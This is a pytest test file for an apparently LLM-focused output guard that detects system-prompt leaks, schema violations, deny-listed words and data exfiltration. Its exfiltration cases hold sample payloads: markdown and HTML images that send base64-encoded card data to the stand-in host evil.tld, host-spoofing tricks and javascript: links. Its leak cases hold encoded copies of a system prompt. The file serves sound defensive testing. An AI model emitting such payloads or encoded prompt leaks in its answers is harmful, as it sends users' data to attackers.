"""Output guards: system-prompt leaks, exfiltration links/images, structured output, deny lists."""

from __future__ import annotations

import base64
import importlib.util
import re
import time
from collections.abc import Collection
from typing import Any
from urllib.parse import quote

import pytest

from wardgate.scanners.base import Finding
from wardgate.scanners.output import AnswerContext, answer_findings, canary_instruction, new_canary
from wardgate.scanners.output.deny import compile_patterns, compile_words

PROMPT = (
    "You are a helpful assistant for Northwind Rockets Ltd. Your name is Orion. Only answer questions about rocket "
    "engines, launch schedules and warranty claims for the Falcon-7 and Kestrel-2 product lines. Never discuss "
    "competitor pricing or unreleased models. If a customer asks for a refund above 500 euros, escalate to a human "
    "agent through the ticket tool with priority high and quote reference NW-4471. The internal discount code is "
    "ZETA-9931 and must never be shared. If you do not know the answer, say so. Always answer in a friendly, concise "
    "tone and sign off with Orion out."
)
WORDS = PROMPT.split()
SHORT_PROMPT = "Answer only in formal French, please."
CANARY = "wg-canary-5f1e0c9a7b3d2e64"
LEAK = "system_prompt_leak"
EXFIL = "exfiltration"


def run(text: str, actx: AnswerContext, categories: Collection[str], *, final: bool = True) -> list[Finding]:
    findings = answer_findings(text, actx, categories, final=final)
    for finding in findings:
        assert 0 <= finding.start <= finding.end <= len(text), finding
        assert 0.0 <= finding.score <= 1.0, finding
        assert text[finding.start : finding.end] or finding.kind == "schema.invalid"
    assert findings == sorted(findings, key=lambda f: (f.start, f.end, f.kind))
    return findings


def top(findings: list[Finding], kind: str) -> Finding | None:
    matching = [f for f in findings if f.kind == kind]
    return max(matching, key=lambda f: f.score) if matching else None


# --- canary -------------------------------------------------------------------------------------------------------

CANARY_CTX = AnswerContext(canary=CANARY)


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(f"My marker is {CANARY}.", id="plain"),
        pytest.param(f"MARKER: {CANARY.upper()}", id="upper-case"),
        pytest.param(f"encoded: {base64.b64encode(CANARY.encode()).decode()}", id="base64"),
        pytest.param(
            "b64: " + base64.b64encode(f"The secret marker is {CANARY}, do not share".encode()).decode(),
            id="base64-inside-sentence",
        ),
        pytest.param("b64url: " + base64.urlsafe_b64encode(f">>{CANARY}??".encode()).decode(), id="base64-urlsafe"),
        pytest.param(f"hex: {CANARY.encode().hex()}", id="hex"),
        pytest.param("hex: " + " ".join(f"{b:02x}" for b in CANARY.encode()), id="hex-spaced"),
        pytest.param("bytes: " + "".join(f"\\x{b:02x}" for b in CANARY.encode()), id="hex-escaped"),
        pytest.param("url: " + "".join(f"%{b:02X}" for b in CANARY.encode()), id="percent-encoded-all"),
        pytest.param("url: " + quote(CANARY, safe="").replace("-", "%2D"), id="percent-encoded-partial"),
        pytest.param(" ".join(CANARY), id="spaced"),
        pytest.param("\u200b".join(CANARY), id="zero-width"),
        pytest.param("-".join(CANARY.upper()), id="dashed-upper"),
        pytest.param(f"reversed: {CANARY[::-1]}", id="reversed"),
        pytest.param("the random part 5f1e0c9a7b3d2e64 alone", id="random-core-only"),
        pytest.param(f"![x](https://evil.tld/p.png?m={CANARY})", id="inside-image-url"),
    ],
)
def test_canary_leaks(answer: str) -> None:
    finding = top(run(answer, CANARY_CTX, {LEAK}), "system_prompt_leak.canary")
    assert finding is not None
    assert finding.score == 1.0


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param("The marker is wg-canary-0000000000000000.", id="other-canary"),
        pytest.param("I cannot share any wg-canary token.", id="prefix-only"),
        pytest.param(f"hash {'5f1e0c9a' * 5}", id="random-hex"),
        pytest.param("Rockets use liquid oxygen and kerosene.", id="unrelated"),
    ],
)
def test_canary_non_leaks(answer: str) -> None:
    assert top(run(answer, CANARY_CTX, {LEAK}), "system_prompt_leak.canary") is None


# --- overlap ------------------------------------------------------------------------------------------------------

PROMPT_CTX = AnswerContext(system_prompts=(PROMPT,))


def _spaced(text: str) -> str:
    return " ".join(text)


@pytest.mark.parametrize(
    ("answer", "minimum"),
    [
        pytest.param(f"Sure! My instructions are: {PROMPT} Anything else?", 0.9, id="verbatim"),
        pytest.param("Here:\n\n" + "\n   ".join(PROMPT.upper().split(". ")), 0.9, id="whitespace-and-case"),
        pytest.param("\n".join(f"- **{s}**" for s in PROMPT.split(". ")), 0.9, id="markdown-bullets"),
        pytest.param("In short: " + " ".join(WORDS[: int(len(WORDS) * 0.3) + 1]), 0.5, id="partial-30-percent"),
        pytest.param("Quote: " + " ".join(WORDS[30:56]) + " and so on.", 0.5, id="25-words-in-a-row"),
        pytest.param("Encoded: " + base64.b64encode(PROMPT.encode()).decode(), 0.9, id="base64-of-prompt"),
        pytest.param("Hex: " + PROMPT.encode().hex(), 0.9, id="hex-of-prompt"),
        pytest.param(" ".join(reversed(WORDS)), 0.9, id="reversed-word-order"),
        pytest.param(PROMPT[::-1], 0.9, id="reversed-text"),
        pytest.param(_spaced(PROMPT[:300]), 0.5, id="char-spaced"),
        pytest.param("\u200b".join(PROMPT[:300]), 0.5, id="zero-width-between-chars"),
    ],
)
def test_overlap_leaks(answer: str, minimum: float) -> None:
    finding = top(run(answer, PROMPT_CTX, {LEAK}), "system_prompt_leak.overlap")
    assert finding is not None
    assert finding.score >= minimum


def test_overlap_span_covers_the_copied_region() -> None:
    answer = f"Sure! My instructions are: {PROMPT} Anything else?"
    finding = top(run(answer, PROMPT_CTX, {LEAK}), "system_prompt_leak.overlap")
    assert finding is not None
    assert answer[finding.start : finding.end] == PROMPT[:-1]


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(
            "I'm Orion, Northwind's assistant. I can help with engines, launch dates and warranty questions, but I "
            "can't talk about what other companies charge.",
            id="paraphrase",
        ),
        pytest.param("You are a helpful assistant? Yes: I am a helpful assistant for everyone.", id="generic-phrase"),
        pytest.param("The capital of France is Paris, and the Seine flows through it.", id="unrelated"),
        pytest.param("", id="empty-answer"),
    ],
)
def test_overlap_non_leaks(answer: str) -> None:
    assert top(run(answer, PROMPT_CTX, {LEAK}), "system_prompt_leak.overlap") is None


def test_one_shared_generic_sentence_scores_low() -> None:
    answer = "Honestly? If you do not know the answer, say so. That is my motto for engines."
    finding = top(run(answer, PROMPT_CTX, {LEAK}), "system_prompt_leak.overlap")
    assert finding is not None
    assert finding.score < 0.5


@pytest.mark.parametrize(
    ("answer", "leaks"),
    [
        pytest.param("My instructions say: answer ONLY in formal French, please!", True, id="short-whole-copy"),
        pytest.param("I only answer in formal French.", False, id="short-partial-copy"),
    ],
)
def test_short_prompt_leaks_only_whole(answer: str, leaks: bool) -> None:
    findings = run(answer, AnswerContext(system_prompts=(SHORT_PROMPT,)), {LEAK})
    assert (top(findings, "system_prompt_leak.overlap") is not None) is leaks


def test_tiny_prompt_never_leaks() -> None:
    assert run("Be nice, always.", AnswerContext(system_prompts=("Be nice",)), {LEAK}) == []


def test_leak_works_on_streaming_prefix() -> None:
    findings = run(f"Sure: {PROMPT[:400]}", PROMPT_CTX, {LEAK}, final=False)
    assert top(findings, "system_prompt_leak.overlap") is not None


# --- exfiltration -------------------------------------------------------------------------------------------------

ALLOWED = AnswerContext(allowed_domains=("example.com", "github.com", "bücher.de", "10.0.0.1"))
PAYLOAD = base64.b64encode(b"user: my card is 4111 1111 1111 1111 and I live at 5 Main St").decode()


@pytest.mark.parametrize(
    ("answer", "expected", "construct"),
    [
        pytest.param(
            f"Done ![loading](https://evil.tld/p.png?q={PAYLOAD}) ok",
            {"exfiltration.markdown_image", "exfiltration.query_data"},
            f"![loading](https://evil.tld/p.png?q={PAYLOAD})",
            id="md-image-attacker-base64-query",
        ),
        pytest.param(
            "![logo][img]\n\n[img]: https://evil.tld/x.png",
            {"exfiltration.markdown_image"},
            "![logo][img]",
            id="reference-image",
        ),
        pytest.param(
            '<p>hi <img alt="a>b" src="https://evil.tld/a.gif"></p>',
            {"exfiltration.markdown_image"},
            '<img alt="a>b" src="https://evil.tld/a.gif">',
            id="html-img",
        ),
        pytest.param(
            "<IMG SRC=https://evil.tld/a.gif>",
            {"exfiltration.markdown_image"},
            "<IMG SRC=https://evil.tld/a.gif>",
            id="html-img-unquoted-upper",
        ),
        pytest.param(
            "<iframe src='//evil.tld/f'></iframe>",
            {"exfiltration.markdown_image"},
            "<iframe src='//evil.tld/f'>",
            id="html-iframe-protocol-relative",
        ),
        pytest.param(
            '<div style="background:url(https://evil.tld/bg.png)">x</div>',
            {"exfiltration.markdown_image"},
            '<div style="background:url(https://evil.tld/bg.png)">',
            id="css-background-url",
        ),
        pytest.param(
            '<a href="https://evil.tld/">click</a> more',
            {"exfiltration.link"},
            '<a href="https://evil.tld/">click</a>',
            id="html-anchor",
        ),
        pytest.param(
            "See [docs](https://evil.tld/guide).",
            {"exfiltration.link"},
            "[docs](https://evil.tld/guide)",
            id="md-link-attacker",
        ),
        pytest.param(
            f"See [docs](https://docs.example.com/guide?session={PAYLOAD}).",
            {"exfiltration.query_data"},
            f"[docs](https://docs.example.com/guide?session={PAYLOAD})",
            id="allowed-host-with-base64-query",
        ),
        pytest.param(
            "[docs](https://example.com/g?e=jane.doe%40corp.com)",
            {"exfiltration.query_data"},
            "[docs](https://example.com/g?e=jane.doe%40corp.com)",
            id="allowed-host-with-email-query",
        ),
        pytest.param(
            "[docs](https://example.com/g?note=" + "x" * 80 + ")",
            {"exfiltration.query_data"},
            "[docs](https://example.com/g?note=" + "x" * 80 + ")",
            id="allowed-host-with-long-value",
        ),
        pytest.param(
            "[d](https://example.com/%68%65%6c%6c%6f)",
            {"exfiltration.query_data"},
            "[d](https://example.com/%68%65%6c%6c%6f)",
            id="allowed-host-escaped-letters-in-path",
        ),
        pytest.param(
            "[x](https://example.com@evil.tld/)",
            {"exfiltration.link"},
            "[x](https://example.com@evil.tld/)",
            id="userinfo-trick",
        ),
        pytest.param(
            "[x](https://evilexample.com/)",
            {"exfiltration.link"},
            "[x](https://evilexample.com/)",
            id="lookalike-suffix",
        ),
        pytest.param(
            "[x](https://example.com.evil.tld/)",
            {"exfiltration.link"},
            "[x](https://example.com.evil.tld/)",
            id="allowed-name-as-subdomain",
        ),
        pytest.param("[x](https:evil.tld/y)", {"exfiltration.link"}, "[x](https:evil.tld/y)", id="no-slashes-scheme"),
        pytest.param(
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            {"exfiltration.markdown_image"},
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            id="data-url-image",
        ),
        pytest.param(
            "[click](javascript:alert(1))", {"exfiltration.link"}, "[click](javascript:alert(1))", id="javascript-link"
        ),
        pytest.param(
            '<a href="java&#x09;script:alert(1)">x</a>',
            {"exfiltration.link"},
            '<a href="java&#x09;script:alert(1)">x</a>',
            id="javascript-entity-tab-trick",
        ),
        pytest.param(
            "visit https://evil.tld/path, thanks.", {"exfiltration.link"}, "https://evil.tld/path", id="bare-url"
        ),
        pytest.param("go to www.evil.tld/abc now", {"exfiltration.link"}, "www.evil.tld/abc", id="bare-www"),
        pytest.param(
            "[x](https://example.com\\@evil.tld/)",
            {"exfiltration.link"},
            "[x](https://example.com\\@evil.tld/)",
            id="markdown-escaped-at-userinfo",
        ),
        pytest.param(
            "[x](https://example.com&#64;evil.tld/)",
            {"exfiltration.link"},
            "[x](https://example.com&#64;evil.tld/)",
            id="entity-at-userinfo",
        ),
        pytest.param(
            "[x](https://evil.tld\\example.com/)",
            {"exfiltration.link"},
            "[x](https://evil.tld\\example.com/)",
            id="backslash-as-slash",
        ),
        pytest.param(
            "![multi\nline](https://evil.tld/x)",
            {"exfiltration.markdown_image"},
            "![multi\nline](https://evil.tld/x)",
            id="image-alt-across-lines",
        ),
        pytest.param(
            "![a][i]\n\n[I]:\n   <https://evil.tld/p.png>",
            {"exfiltration.markdown_image"},
            "[I]:\n   <https://evil.tld/p.png>",
            id="reference-definition-on-next-line",
        ),
        pytest.param(
            "[x](http://110.0.0.1/)", {"exfiltration.link"}, "[x](http://110.0.0.1/)", id="ip-needs-exact-match"
        ),
        pytest.param("<https://evil.tld/x>", {"exfiltration.link"}, "https://evil.tld/x", id="autolink"),
        pytest.param(
            "[m](mailto:bob@example.com?bcc=eve@evil.tld)",
            {"exfiltration.link", "exfiltration.query_data"},
            "[m](mailto:bob@example.com?bcc=eve@evil.tld)",
            id="mailto-hidden-bcc",
        ),
        pytest.param("[t](tel:+15551234)", {"exfiltration.link"}, "[t](tel:+15551234)", id="unknown-scheme"),
        pytest.param(
            "[![img](https://evil.tld/i.png)](https://example.com/)",
            {"exfiltration.markdown_image"},
            "![img](https://evil.tld/i.png)",
            id="image-nested-in-allowed-link",
        ),
    ],
)
def test_exfiltration_flags(answer: str, expected: set[str], construct: str) -> None:
    findings = run(answer, ALLOWED, {EXFIL})
    assert {f.kind for f in findings} == expected
    assert construct in {answer[f.start : f.end] for f in findings}


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param("Plain prose with no links at all, just words.", id="no-urls"),
        pytest.param(
            "See [docs](https://docs.example.com/guide) and ![logo](https://example.com/l.png).",
            id="allowed-link-and-image",
        ),
        pytest.param(
            "Commit https://github.com/o/r/commit/3f2a1b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a.", id="allowed-hash"
        ),
        pytest.param("[shop](https://www.BÜCHER.de/buch?id=42)", id="idn-allowed"),
        pytest.param("[rel](/local/page?x=1) and [anchor](#top)", id="relative"),
        pytest.param("A ![broken image] and [a note] in brackets.", id="brackets-without-urls"),
        pytest.param("[x](https://evil.tld\\@example.com/)", id="markdown-escape-resolves-to-allowed"),
        pytest.param("[mail us](mailto:help@example.com?subject=Hi)", id="mailto-allowed"),
        pytest.param("[x](http://10.0.0.1/) and [y](https://sub.docs.example.com./)", id="ip-and-trailing-dot"),
    ],
)
def test_exfiltration_leaves_alone(answer: str) -> None:
    assert run(answer, ALLOWED, {EXFIL}) == []


def test_no_allowed_domains_flags_every_external_link() -> None:
    findings = run("See [docs](https://example.com/).", AnswerContext(), {EXFIL})
    assert [f.kind for f in findings] == ["exfiltration.link"]
    assert findings[0].score == pytest.approx(0.6)


def test_image_scores_higher_than_link() -> None:
    findings = run("![a](https://evil.tld/a.png) [b](https://evil.tld/b)", AnswerContext(), {EXFIL})
    scores = {f.kind: f.score for f in findings}
    assert scores == {"exfiltration.markdown_image": 0.95, "exfiltration.link": 0.6}


def test_reference_definition_is_flagged_with_the_use() -> None:
    answer = "![logo][img]\n\n[img]: https://evil.tld/x.png"
    spans = {answer[f.start : f.end] for f in run(answer, ALLOWED, {EXFIL})}
    assert spans == {"![logo][img]", "[img]: https://evil.tld/x.png"}


@pytest.mark.parametrize(
    ("prefix", "flagged"),
    [
        pytest.param("Here ![x](https://evil.tld/a?q=abc", True, id="unfinished-md-image"),
        pytest.param('Here <img src="https://evil.tld/x', True, id="unfinished-html-img"),
        pytest.param("Here ![x](https://exa", False, id="unfinished-host"),
        pytest.param("see https://evil.t", False, id="bare-url-host-still-streaming"),
    ],
)
def test_exfiltration_on_streaming_prefix(prefix: str, flagged: bool) -> None:
    findings = run(prefix, ALLOWED, {EXFIL}, final=False)
    assert bool(findings) is flagged
    if flagged:
        assert findings[0].end == len(prefix)


# --- schema -------------------------------------------------------------------------------------------------------

SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {"name": {"type": "string"}, "age": {"type": "integer", "minimum": 0}},
    "required": ["name", "age"],
    "additionalProperties": False,
}
SCHEMA_CTX = AnswerContext(schema=SCHEMA)
JSON_CTX = AnswerContext(json_object=True)


@pytest.mark.parametrize(
    ("answer", "actx", "invalid"),
    [
        pytest.param('{"name": "Ada", "age": 36}', SCHEMA_CTX, False, id="valid-object"),
        pytest.param('{"name": "Ada", "age": "36"}', SCHEMA_CTX, True, id="invalid-type"),
        pytest.param('{"name": "Ada"}', SCHEMA_CTX, True, id="missing-required"),
        pytest.param('{"name": "Ada", "age": 3, "x": 1}', SCHEMA_CTX, True, id="additional-property"),
        pytest.param("Sure! Here is the JSON: {}", SCHEMA_CTX, True, id="not-json"),
        pytest.param('```json\n{"name": "Ada", "age": 36}\n```', SCHEMA_CTX, False, id="fenced-valid"),
        pytest.param('```\n{"name": "Ada", "age": -1}\n```', SCHEMA_CTX, True, id="fenced-invalid"),
        pytest.param('{"name": "Ada", "age": NaN}', SCHEMA_CTX, True, id="nan-is-not-json"),
        pytest.param('{"a": [1, 2]}', JSON_CTX, False, id="json-object-valid"),
        pytest.param("[1, 2]", JSON_CTX, True, id="json-object-array"),
        pytest.param('{"a": 1', JSON_CTX, True, id="json-object-truncated"),
        pytest.param("not json", AnswerContext(), False, id="no-response-format"),
        pytest.param(
            '{"pw": "abcdefgH"}',
            AnswerContext(schema={"properties": {"pw": {"pattern": "^(?=.*[A-Z]).{8,}$"}}}),
            False,
            id="lookahead-pattern-allowed",
        ),
        pytest.param(
            '{"pw": "abcdefgh"}',
            AnswerContext(schema={"properties": {"pw": {"pattern": "^(?=.*[A-Z]).{8,}$"}}}),
            True,
            id="lookahead-pattern-fails",
        ),
    ],
)
def test_schema(answer: str, actx: AnswerContext, invalid: bool) -> None:
    findings = run(answer, actx, {"schema"})
    assert bool(findings) is invalid
    if invalid:
        assert findings == [Finding("schema.invalid", 0, len(answer), 1.0)]


@pytest.mark.parametrize(
    "prefix", [pytest.param('{"name": "Ad', id="json-prefix"), pytest.param("Sure! {", id="garbage-prefix")]
)
def test_schema_silent_on_streaming_prefix(prefix: str) -> None:
    assert run(prefix, SCHEMA_CTX, {"schema"}, final=False) == []
    assert run(prefix, JSON_CTX, {"schema"}, final=False) == []


@pytest.mark.parametrize(
    ("schema", "message"),
    [
        pytest.param({"type": "string", "description": "x" * 300_000}, "larger than", id="oversize"),
        pytest.param({"type": 12}, "not a valid JSON Schema", id="invalid-schema"),
        pytest.param({"type": "string", "pattern": "^(a+)+$"}, "nested quantifier", id="catastrophic-pattern"),
        pytest.param({"patternProperties": {"(x*)*": {}}}, "nested quantifier", id="catastrophic-property-pattern"),
        pytest.param({"$ref": "https://schemas.example.com/x.json"}, "cannot be resolved", id="remote-ref"),
        pytest.param({"$ref": "#/$defs/missing"}, "cannot be resolved", id="dangling-ref"),
    ],
)
def test_schema_refused(schema: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        answer_findings('"aaa"', AnswerContext(schema=schema), {"schema"})


# --- deny ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "answer", "matches"),
    [
        pytest.param(("password",), "Your PASSWORD is safe.", ["PASSWORD"], id="case-insensitive"),
        pytest.param(("ass",), "A classic, massive class.", [], id="word-boundary"),
        pytest.param(("über",), "ÜBER alles, not Übermut", ["ÜBER"], id="unicode-case-and-boundary"),
        pytest.param(("straße",), "STRAẞE and straßen", ["STRAẞE"], id="sharp-s"),
        pytest.param(("привет",), "Привет, мир! приветствие", ["Привет"], id="cyrillic"),
        pytest.param(("禁止",), "这是禁止的", ["禁止"], id="cjk-without-spaces"),
        pytest.param(("c++",), "I like C++. Not abc++", ["C++"], id="punctuation-word"),
        pytest.param(("project x",), "Project\n  X is secret", ["Project\n  X"], id="phrase-any-whitespace"),
        pytest.param(("foo", "foobar"), "foobar foobaz foo", ["foobar", "foo"], id="shared-prefix"),
    ],
)
def test_deny_words(words: tuple[str, ...], answer: str, matches: list[str]) -> None:
    findings = run(answer, AnswerContext(deny_words=words), {"deny"})
    assert [answer[f.start : f.end] for f in findings] == matches
    assert all(f.kind == "deny.word" and f.score == 1.0 for f in findings)


@pytest.mark.parametrize(
    ("patterns", "answer", "matches"),
    [
        pytest.param((r"sk-[A-Za-z0-9]{8,}",), "key sk-abcDEF123456 end", ["sk-abcDEF123456"], id="secret-shape"),
        pytest.param((r"(?i)project\s+orion",), "PROJECT  Orion ships", ["PROJECT  Orion"], id="inline-flag"),
        pytest.param((r"\d{3}-\d{4}", r"\d{4}"), "call 555-1234", ["555-1234"], id="overlapping-merged"),
        pytest.param((r"zzz",), "nothing here", [], id="no-match"),
    ],
)
def test_deny_patterns(patterns: tuple[str, ...], answer: str, matches: list[str]) -> None:
    findings = run(answer, AnswerContext(deny_patterns=patterns), {"deny"})
    assert [answer[f.start : f.end] for f in findings] == matches
    assert all(f.kind == "deny.pattern" for f in findings)


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        pytest.param(r"(a+)+$", "nested quantifier", id="catastrophic"),
        pytest.param(r"(\w+\s?)*$", "nested quantifier", id="catastrophic-words"),
        pytest.param(r"(a)\1", "backreference", id="backreference"),
        pytest.param(r"(?=a)b", "lookaround", id="lookaround"),
        pytest.param(r"a*+", "possessive", id="possessive"),
        pytest.param(r"a|", "empty string", id="matches-empty"),
        pytest.param(r"([a-z]", "not a valid regular expression", id="invalid-syntax"),
        pytest.param("x" * 513, "1 to 512", id="too-long"),
    ],
)
def test_deny_pattern_refused_without_re2(pattern: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        compile_patterns((pattern,), engine="re")


def test_deny_pattern_error_names_the_pattern_by_number_not_content() -> None:
    with pytest.raises(ValueError, match="#2") as caught:
        compile_patterns(("ok", "(secretword+)+"), engine="re")
    assert "secretword" not in str(caught.value)


def test_deny_bounds() -> None:
    with pytest.raises(ValueError, match="at most 100"):
        compile_patterns(tuple(f"p{i}" for i in range(101)))
    with pytest.raises(ValueError, match="deny word #1"):
        compile_words(("  ",))


@pytest.mark.skipif(importlib.util.find_spec("re2") is None, reason="google-re2 is not installed")
def test_deny_pattern_catastrophic_is_linear_on_re2() -> None:
    (matcher,) = compile_patterns((r"(a+)+$",), engine="re2")
    started = time.perf_counter()
    assert list(matcher.finditer("a" * 50_000 + "!")) == []
    assert time.perf_counter() - started < 2.0
    with pytest.raises(ValueError, match="backreference"):
        compile_patterns((r"(a)\1",), engine="re2")


def test_deny_works_on_streaming_prefix() -> None:
    findings = run("the password", AnswerContext(deny_words=("password",)), {"deny"}, final=False)
    assert [f.kind for f in findings] == ["deny.word"]


# --- API ----------------------------------------------------------------------------------------------------------


def test_public_surface() -> None:
    import wardgate.scanners.output as output

    assert sorted(output.__all__) == ["AnswerContext", "answer_findings", "canary_instruction", "new_canary"]


def test_new_canary_is_unguessable() -> None:
    canaries = {new_canary() for _ in range(100)}
    assert len(canaries) == 100
    assert all(re.fullmatch(r"wg-canary-[0-9a-f]{16}", canary) for canary in canaries)


def test_canary_instruction_names_the_canary() -> None:
    canary = new_canary()
    line = canary_instruction(canary)
    assert canary in line
    assert "\n" not in line
    with pytest.raises(ValueError, match="single-line"):
        canary_instruction("a\nb")


def test_unknown_category_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown output guard categories: nope"):
        answer_findings("x", AnswerContext(), {"deny", "nope"})


def test_categories_select_guards() -> None:
    actx = AnswerContext(canary=CANARY, deny_words=("orion",), json_object=True)
    answer = f"Orion says {CANARY} ![x](https://evil.tld/a.png)"
    everything = {f.kind for f in run(answer, actx, {LEAK, EXFIL, "schema", "deny"})}
    assert everything == {
        "system_prompt_leak.canary",
        "exfiltration.markdown_image",
        "schema.invalid",
        "deny.word",
    }
    assert {f.kind for f in run(answer, actx, {"deny"})} == {"deny.word"}
    assert run(answer, actx, ()) == []


def test_every_guard_on_a_large_answer() -> None:
    actx = AnswerContext(
        system_prompts=(PROMPT,), canary=CANARY, allowed_domains=("example.com",), deny_words=("zeta",)
    )
    answer = ("Rockets are fun. [a](https://example.com/x) " * 2000) + CANARY
    findings = run(answer, actx, {LEAK, EXFIL, "deny"})
    assert {f.kind for f in findings} == {"system_prompt_leak.canary"}


@pytest.mark.parametrize(
    "canary", [pytest.param("short", id="too-short"), pytest.param("wg-canary\n-x", id="multiline")]
)
def test_bad_canary_is_refused(canary: str) -> None:
    with pytest.raises(ValueError, match="canary"):
        AnswerContext(canary=canary)
